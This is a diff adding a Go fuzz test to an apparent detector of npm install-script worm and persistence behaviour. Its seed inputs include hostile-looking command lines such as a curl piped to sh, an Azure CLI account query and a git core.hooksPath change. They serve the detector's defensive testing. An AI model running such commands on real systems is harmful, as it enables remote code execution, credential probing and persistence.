@@ -242,3 +242,22 @@ func BenchmarkWormCommand(b *testing.B) {
 		en.Observe(wormbell.Event{Kind: wormbell.ProcessStart, Time: time.Unix(1, 0), Process: cc})
 	}
 }
+
+// FuzzCommands: command lines are an attacker's to write.
+func FuzzCommands(f *testing.F) {
+	f.Add("/bin/sh", "-c\x00curl x | sh")
+	f.Add("/usr/bin/python3", "-m\x00azure.cli\x00account")
+	f.Add("/usr/bin/git", "-c\x00config\x00--global\x00core.hooksPath")
+	f.Add("/bin/busybox", "sh\x00-c")
+	f.Fuzz(func(t *testing.T, exe, args string) {
+		npm := &wormbell.Process{PID: 2, Exe: "/usr/bin/node", Script: "/usr/bin/npm", Args: []string{"node", "/usr/bin/npm", "install"}, Signer: "deb:npm"}
+		p := &wormbell.Process{PID: 3, Exe: exe, Args: strings.Split(args, "\x00"), Parent: npm, Package: &wormbell.Package{Name: "x"}, Lifecycle: "install"}
+		en := engine(detect.ByID("worm-command"), detect.ByID("persistence-by-install-script"))
+		en.Observe(wormbell.Event{Kind: wormbell.ProcessStart, Time: scene.Begin, Process: p})
+		en.Observe(wormbell.Event{Kind: wormbell.ShellCommand, Time: scene.Begin, Process: p, Line: args})
+		en.Observe(wormbell.Event{Kind: wormbell.FileWrite, Time: scene.Begin, Process: p, Path: args})
+		if problems := en.Problems(); len(problems) > 0 {
+			t.Error(problems)
+		}
+	})
+}
